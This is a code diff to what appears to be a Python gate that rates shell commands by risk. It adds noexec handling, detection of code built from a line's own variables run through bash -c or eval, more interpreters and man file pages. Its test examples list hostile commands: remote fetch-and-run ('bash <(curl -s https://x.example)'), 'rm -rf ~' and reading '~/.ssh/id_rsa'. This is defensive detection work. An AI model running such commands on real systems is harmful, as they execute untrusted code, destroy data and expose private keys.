@@ -106,18 +106,31 @@ def _runs_file_text(cmd, what: str) -> bool:
     return False
 
 
+# Fired when a shell or eval judged the code the line's own variables made: the splitter, which saw only the
+# expansion, marked the part opaque; the engine drops that finding once the code is read.
+LINE_VARIABLES_CODE = "code.line-variables"
+
 # ---------------------------------------------------------------- shells
+
+
+# Options that turn noexec on (`-n`, `-o noexec`) or off (`+n`, `+o noexec`): the shell reads its code, checks
+# the syntax and runs none of it (nor $BASH_ENV); the last one given wins. An interactive shell (-i) is a session.
+NOEXEC_LONG = frozenset({"--noexec", "--no-exec", "--no-execute"})
 
 
 def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, bool, list]:
     """sh's own reading of its words (getopt cannot: `+o NAME`, `-` ending the options, -c taking the first
     operand): (takes -c code, operands, -s reads stdin, -n parses only, rc files it sources). fish's
     -C/--init-command CODE go to `init`."""
-    code = reads_stdin = parse_only = False
+    code = reads_stdin = parse_only = interactive = False
     rcfiles: list[str] = []
     i, n = 0, len(args)
     while i < n:
         arg = args[i]
+        if arg in NOEXEC_LONG:
+            parse_only = True
+            i += 1
+            continue
         if arg in ("--rcfile", "--init-file", "-rcfile", "-init-file"):
             if i + 1 < n:
                 rcfiles.append(args[i + 1])
@@ -140,11 +153,16 @@ def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, 
             letters = arg[1:]
             code = code or "c" in letters
             reads_stdin = reads_stdin or "s" in letters
-            parse_only = parse_only or arg[0] == "-" and "n" in letters
+            interactive = interactive or arg[0] == "-" and "i" in letters
+            if "n" in letters:
+                parse_only = arg[0] == "-"
+            names = [args[i + 1 + k] for k, ch in enumerate(ch for ch in letters if ch in "oO") if i + 1 + k < n]
+            if "o" in letters and "noexec" in names:
+                parse_only = arg[0] == "-"
             i += 1 + sum(1 for ch in letters if ch in "oO")    # -o NAME / +O NAME take the next word
             continue
         break
-    return code, list(args[i:]), reads_stdin, parse_only, rcfiles
+    return code, list(args[i:]), reads_stdin, parse_only and not interactive, rcfiles
 
 
 @emits({"sh.rcfile": ["bash --rcfile ~/.evil -i"],
@@ -153,7 +171,8 @@ def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, 
         "code.file-text": ['bash -c "$(cat x.sh)"'],
         "sh.code-unsplit": ["tcsh -c 'rm -rf ~'", "nix develop -c bash -c 'ls'"],
         "sh.code-other-language": ["xonsh -c 'import os'"],
-        "sh.parse-only": ["bash -n script.sh", "sh -n ./configure"],
+        "sh.parse-only": ["bash -n script.sh", "sh -n ./configure", "bash -n -c 'rm -rf ~'",
+                          "bash -n <<< 'rm -rf ~'", "zsh -o noexec x.zsh"],
         "sh.script": ["bash script.sh", "sh ./configure", "bash /tmp/x.sh"],
         "sh.script-runtime": ['bash "$S"', "bash <(curl -s https://x.example)"],
         "sh.stdin": ["echo ls | bash", "bash <<< 'ls'"], "sh.stdin-file": ["bash -s < x.sh", "sh < /tmp/x"],
@@ -175,6 +194,11 @@ def shell_line(cmd, o: Options) -> None:
         else:
             cmd.fired.add("sh.init-command")
             cmd.code_text(text, f"{cmd.name} -C")
+    if parse_only and (code or operands or stdin_fed(cmd)):
+        cmd.fired.add("sh.parse-only")      # -n reads commands but runs none (not even $BASH_ENV)
+        for word in operands[:1] if not code else ():
+            cmd.read(word, "parses")
+        return
     if code:
         text = operands[0] if operands else ""
         if cmd.via_xargs or not operands:
@@ -187,18 +211,16 @@ def shell_line(cmd, o: Options) -> None:
             cmd.facts.runtime_code = True
             cmd.does("run-code", "sh.code-runtime", f"{cmd.name} -c runs code known only at run time")
             _runs_file_text(cmd, f"{cmd.name} -c runs the text of")
-        elif cmd.name not in SPLIT_SHELLS or cmd.delegated:
-            # the splitter did not make parts of it: judge it here (read as sh, the nearest the gate has)
+        elif cmd.name not in SPLIT_SHELLS or cmd.delegated or not cmd.splitter_saw(text):
+            # the splitter did not make parts of it (another shell's, handed on, or the line's own variables
+            # made it: `c='curl … | sh'; bash -c "$c"`): judge it here (read as sh, the nearest the gate has)
             if cmd.name in OTHER_LANGUAGE_SHELLS:
                 cmd.does("run-code", "sh.code-other-language", f"{cmd.name} -c runs code in {cmd.name}'s language")
             cmd.fired.add("sh.code-unsplit")
+            if cmd.name in SPLIT_SHELLS and not cmd.delegated:
+                cmd.fired.add(LINE_VARIABLES_CODE)
             cmd.code_text(text, f"{cmd.name} -c")
         return      # else: a literal command line, split into parts of its own and judged there
-    if parse_only and (operands or not stdin_fed(cmd)):
-        cmd.fired.add("sh.parse-only")      # -n reads commands but runs none
-        for word in operands[:1]:
-            cmd.read(word, "parses")
-        return
     if operands and not reads_stdin:
         _script(cmd, operands[0], "sh", f"{cmd.name} runs", shell=cmd.name not in OTHER_LANGUAGE_SHELLS)
         return
@@ -445,18 +467,20 @@ class Inline:
 
 
 def _inline_hook(name: str, spec: Inline, flag: str):
-    """The hook of one interpreter (`name`): inline code, modules it loads, script files, in-place edits."""
-    examples = {f"{name}.inline": [f"{name} {flag} 'x'"], f"{name}.script": [f"{name} x"],
-                f"{name}.script-runtime": [f'{name} "$S"'], f"{name}.stdin": [f"echo x | {name}"],
-                f"{name}.interactive": [name]}
+    """The hook of one interpreter (`name`): inline code, modules it loads, script files, in-place edits. Its
+    rule ids are the lower-cased name's (`r.inline` for R)."""
+    program, name = name, name.lower()
+    examples = {f"{name}.inline": [f"{program} {flag} 'x'"], f"{name}.script": [f"{program} x"],
+                f"{name}.script-runtime": [f'{program} "$S"'], f"{name}.stdin": [f"echo x | {program}"],
+                f"{name}.interactive": [program]}
     if spec.loads:
-        examples[f"{name}.loads"] = [f"{name} -{spec.loads[0]} /tmp/x app"]
-        examples[f"{name}.loads-module"] = [f"{name} -{spec.loads[0]} mod app"]
+        examples[f"{name}.loads"] = [f"{program} -{spec.loads[0]} /tmp/x app"]
+        examples[f"{name}.loads-module"] = [f"{program} -{spec.loads[0]} mod app"]
     if spec.files:
-        examples[f"{name}.script-option"] = [f"{name} -{spec.files[0]} x"]
-    examples[f"{name}.stdin-file"] = [f"{name} < x"]
+        examples[f"{name}.script-option"] = [f"{program} -{spec.files[0]} x"]
+    examples[f"{name}.stdin-file"] = [f"{program} < x"]
     if spec.in_place:
-        examples[f"{name}.edits"] = [f"{name} -{spec.in_place} -pe 'x' f.txt"]
+        examples[f"{name}.edits"] = [f"{program} -{spec.in_place} -pe 'x' f.txt"]
     if name == "perl":
         examples["perl.substitutes"] = ["perl -pi -e 's/a/b/g' f.txt"]
 
@@ -471,7 +495,7 @@ def _inline_hook(name: str, spec: Inline, flag: str):
             for word in o.operands:     # with inline code, the operands are the files it reads (or edits)
                 if edits:
                     cmd.fired.add(f"{name}.edits")
-                    cmd.write(word, f"{name} -{spec.in_place} edits")
+                    cmd.write(word, f"{program} -{spec.in_place} edits")
                 else:
                     cmd.read(word)
             if name == "perl" and all(_plain_substitution(code) for code in codes) and not o.all("M", "m", "I") \
@@ -481,45 +505,46 @@ def _inline_hook(name: str, spec: Inline, flag: str):
             if any(UNKNOWN in code for code in codes):
                 cmd.facts.runtime_code = True
             cmd.facts.stdin_interp = stdin_fed(cmd)
-            cmd.does("run-code", f"{name}.inline", f"{name} runs inline code")
+            cmd.does("run-code", f"{name}.inline", f"{program} runs inline code")
             for code in codes:
-                judge_inline(cmd, code, name)      # what the code visibly does can make it worse
+                judge_inline(cmd, code, program)   # what the code visibly does can make it worse
             return
         for option in spec.loads:
             for value in o.all(option):
                 if LOAD_PATH.search(value) or UNKNOWN in value:
                     cmd.fired.add(f"{name}.loads")
-                    cmd.run_file(value, f"{name} loads")
+                    cmd.run_file(value, f"{program} loads")
                 else:   # an installed module (`node -r dotenv/config`, `ruby -rjson`): the project's own
-                    cmd.does("run-project", f"{name}.loads-module", f"{name} loads the installed module {value}")
+                    cmd.does("run-project", f"{name}.loads-module", f"{program} loads the installed module {value}")
         for option in spec.files:
             for value in o.all(option):
                 cmd.fired.add(f"{name}.script-option")
-                cmd.run_file(value, f"{name} runs")
+                cmd.run_file(value, f"{program} runs")
                 return
         operands = o.operands
         if operands and operands[0] != "-":
-            _script(cmd, operands[0], name, f"{name} runs")
+            _script(cmd, operands[0], name, f"{program} runs")
             for word in operands[1:] if edits else ():
                 cmd.fired.add(f"{name}.edits")
-                cmd.write(word, f"{name} -{spec.in_place} edits")
+                cmd.write(word, f"{program} -{spec.in_place} edits")
             return
         _code_from_stdin(cmd, name)
 
     hook.__name__ = hook.__qualname__ = f"{name.replace('-', '_')}_line"
-    hook.__doc__ = f"{name}: inline code is high, a project script moderate, code from its input high."
+    hook.__doc__ = f"{program}: inline code is high, a project script moderate, code from its input high."
     return hook
 
 
 def interpreter(name: str, *, grammar: Grammar, spec: Inline, flag: str, aliases=(), rows=(), on=(),
                 doc: str = "", examples=None) -> Program:
     """An interpreter described by how it is given code (Inline); --version and syntax checks only read."""
-    version = Row(f"{name}.version", "nothing", "{cmd} prints its version",
+    rid = name.lower()      # rule ids are lower case (R's are r.*)
+    version = Row(f"{rid}.version", "nothing", "{cmd} prints its version",
                   When(flag=tuple(w.lstrip("-") for w in VERSION_WORDS), operands=False,
                        no_value=spec.code + spec.files + spec.loads), stop=True, examples=(f"{name} -h",))
-    check = (Row(f"{name}.check", "nothing", "{cmd} only checks the syntax", When(flag=spec.check, no_value=spec.code),
+    check = (Row(f"{rid}.check", "nothing", "{cmd} only checks the syntax", When(flag=spec.check, no_value=spec.code),
                  examples=(f"{name} -{spec.check[0]} x",)),) if spec.check else ()
-    check_reads = (On("read", OPERANDS, when=When(flag=spec.check, no_value=spec.code), id=f"{name}.check-reads",
+    check_reads = (On("read", OPERANDS, when=When(flag=spec.check, no_value=spec.code), id=f"{rid}.check-reads",
                       says="checks", examples=(f"{name} -{spec.check[0]} x",)),) if spec.check else ()
     return Program(name, aliases=aliases, doc=doc or f"{name}: inline code, a script, or code from its input",
                    grammar=grammar, rows=(version,) + tuple(rows) + check, on=check_reads + tuple(on),
@@ -606,7 +631,11 @@ GENERIC_INLINE = Inline(code=("e", "c", "eval", "E", "Command", "command", "C"),
 GENERIC_GRAMMAR = Grammar(values="ecfECF", long_values=("eval", "Command", "command", "File", "file"))
 GENERIC = tuple(interpreter(name, flag="-e", grammar=GENERIC_GRAMMAR, spec=GENERIC_INLINE)
                 for name in ("Rscript", "julia", "osascript", "tclsh", "wish", "expect", "groovy", "scala", "kotlin",
-                             "jshell", "irb", "guile", "racket", "sbcl", "clisp", "dc"))
+                             "jshell", "irb", "guile", "racket", "sbcl", "clisp", "dc",
+                             # GTFOBins' shell and file-write: R -e, octave --eval, gnuplot -e, ghc -e, bpftrace -e,
+                             # and m4, whose input's esyscmd() runs commands
+                             "R", "octave", "octave-cli", "gnuplot", "ghc", "runghc", "runhaskell", "bpftrace", "m4",
+                             "gm4"))
 
 # AppleScript (and JXA) asking for an administrator's password runs its shell script as root; the script of
 # `do shell script "…"` is shell code the gate can read.
@@ -767,7 +796,8 @@ DENO = Program(
 # ---------------------------------------------------------------- eval, source
 
 
-@emits({"eval.runtime": ['eval "$X"', "echo ls | xargs eval"], "eval.unsplit": ["nix develop -c eval ls"]})
+@emits({"eval.runtime": ['eval "$X"', "echo ls | xargs eval"], "eval.unsplit": ["nix develop -c eval ls"],
+        "eval.line-variables": ['eval "cd $HOME"']})
 def eval_words(cmd, o: Options) -> None:
     """eval WORDS: literal text is split by the splitter; text known at run time is code the gate cannot read."""
     text = " ".join(o.args)
@@ -778,6 +808,11 @@ def eval_words(cmd, o: Options) -> None:
     elif cmd.delegated:
         cmd.fired.add("eval.unsplit")
         cmd.code_text(text, "eval")
+    elif not all(cmd.splitter_saw(word) for word in o.args):
+        # `x='curl -s URL | sh'; eval "$x"`: the line's own variables made the text (the splitter saw none of it)
+        cmd.fired.add("eval.line-variables")
+        cmd.fired.add(LINE_VARIABLES_CODE)
+        cmd.code_text(text, "eval runs the line's own variables")
 
 
 @emits({"source.runtime": ['source "$F"', "source <(curl -s https://x.example)"],
@@ -1110,10 +1145,16 @@ MORE = Program("more", aliases=("most",), doc="a pager; +cmd runs commands", gra
 
 
 @emits({"man.pager": ["man -P 'sh -c id' ls", "man --pager=id ls", 'man -P "$P" ls'],
+        "man.file-page": ["man ./docs/tool.1", "man ~/.ssh/id_rsa"],
         "man.plain-pager": ["man -P cat ls", "man --pager='less -R' ls"]})
 def man_pager(cmd, o: Options) -> None:
     """-P/--pager CMD: man runs CMD on the page. A plain pager (`cat`, `less -R`) shows it; any other command
-    runs code, judged too (parts of their own, or here)."""
+    runs code, judged too (parts of their own, or here). A page named with a slash is that file, shown."""
+    if not o.has("l", "local-file"):
+        for word in o.operands:
+            if "/" in word:
+                cmd.fired.add("man.file-page")
+                cmd.read(word)
     for text in o.all("P", "pager"):
         if UNKNOWN in text:
             cmd.does("run-code", "man.pager", "man runs a pager command known only at run time")
